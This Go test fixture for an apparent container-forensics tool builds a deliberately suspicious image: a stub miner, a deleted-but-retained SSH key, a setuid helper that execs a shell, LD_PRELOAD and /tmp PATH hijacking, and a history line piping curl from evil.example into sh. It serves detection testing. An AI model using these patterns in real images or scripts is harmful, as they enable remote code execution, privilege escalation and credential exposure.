package testimage

import (
	"archive/tar"
	"context"
	"fmt"
	"time"

	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
)

// Names of the suspect test images.
const (
	SuspectImageName = "docker.io/ctrforensics/suspect:1"
	MultiImageName   = "docker.io/ctrforensics/multi:1"
)

// SuspectSecret is the private key the suspect image drops in layer 1 and
// deletes in layer 2: still shipped in layer 1's blob, invisible in the
// final filesystem.
const SuspectSecret = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ==\n-----END OPENSSH PRIVATE KEY-----\n"

// SuspectImage returns an image with what article 2 of the design brief warns
// of, one item per layer so that each can be found where it is:
//
//	layer 0 (gzip)  busybox base, /opt/app/{a,b}
//	layer 1 (gzip)  RUN curl ... | sh: drops /usr/local/bin/miner and the secret /root/.ssh/id_rsa
//	layer 2 (zstd)  RUN rm the secret (whiteout) and replace /opt/app (opaque directory)
//	layer 3 (plain) RUN chmod u+s: a setuid /usr/bin/helper
//
// and a config with LD_PRELOAD, a PATH starting with /tmp, an entrypoint in a
// hidden directory under /tmp and no USER (root).
func SuspectImage(ctx context.Context) (*Image, error) {
	base, err := Busybox(ctx)
	if err != nil {
		return nil, fmt.Errorf("suspect image base layer: %w", err)
	}
	base = append(base, Dir("/opt", 0o755), Dir("/opt/app", 0o755),
		Reg("/opt/app/a", 0o644, "old a\n"), Reg("/opt/app/b", 0o644, "old b\n"))
	t := func(day int) *time.Time {
		v := time.Date(2024, 3, day, 12, 0, 0, 0, time.UTC)
		return &v
	}
	layers := []Layer{
		{Files: base},
		{Files: []File{
			Dir("/usr", 0o755), Dir("/usr/local", 0o755), Dir("/usr/local/bin", 0o755),
			Reg("/usr/local/bin/miner", 0o755, "#!/bin/sh\necho mining\n"),
			{Path: "/root/.ssh", Type: tar.TypeDir, Mode: 0o700},
			Reg("/root/.ssh/id_rsa", 0o600, SuspectSecret),
		}},
		{Compression: Zstd, Files: []File{
			Whiteout("/root/.ssh/id_rsa"),
			Dir("/opt/app", 0o755), Opaque("/opt/app"), Reg("/opt/app/new", 0o644, "new\n"),
		}},
		{Compression: None, Files: []File{
			Dir("/usr/bin", 0o755),
			Reg("/usr/bin/helper", 0o4755, "#!/bin/sh\nexec /bin/sh\n"),
		}},
	}
	history := []ocispec.History{
		{Created: t(1), CreatedBy: "/bin/sh -c #(nop) ADD file:busybox in / "},
		{Created: t(2), CreatedBy: "/bin/sh -c curl -fsSL http://evil.example/install.sh | sh"},
		{Created: t(3), CreatedBy: "/bin/sh -c #(nop)  ENV LD_PRELOAD=/tmp/.x/libhook.so", EmptyLayer: true},
		{Created: t(3), CreatedBy: "/bin/sh -c rm /root/.ssh/id_rsa && rm -rf /opt/app && mkdir /opt/app && echo new > /opt/app/new"},
		{Created: t(4), CreatedBy: "/bin/sh -c chmod u+s /usr/bin/helper"},
		{Created: t(4), CreatedBy: `/bin/sh -c #(nop)  ENTRYPOINT ["/tmp/.x/run"]`, EmptyLayer: true},
	}
	return &Image{
		Name:    SuspectImageName,
		Layers:  layers,
		History: history,
		Created: *t(5),
		Config: ocispec.ImageConfig{
			Env:        []string{"PATH=/tmp/.x:/usr/sbin:/usr/bin:/sbin:/bin", "LD_PRELOAD=/tmp/.x/libhook.so"},
			Entrypoint: []string{"/tmp/.x/run"},
		},
	}, nil
}

// MultiPlatformImage returns a two-platform image (linux/amd64 and
// linux/arm64) of one busybox layer each, plus a file naming its platform.
func MultiPlatformImage(ctx context.Context) (*MultiPlatform, error) {
	base, err := Busybox(ctx)
	if err != nil {
		return nil, err
	}
	m := &MultiPlatform{Name: MultiImageName}
	for _, arch := range []string{"amd64", "arm64"} {
		m.Images = append(m.Images, &Image{
			Platform: ocispec.Platform{OS: "linux", Architecture: arch},
			Layers: []Layer{
				{Files: base, CreatedBy: "ADD rootfs /"},
				{Files: []File{Reg("/etc/platform-"+arch, 0o644, arch+"\n")}, CreatedBy: "RUN echo " + arch},
			},
			Config: ocispec.ImageConfig{Cmd: []string{"/bin/sh"}, User: "nobody"},
		})
	}
	return m, nil
}
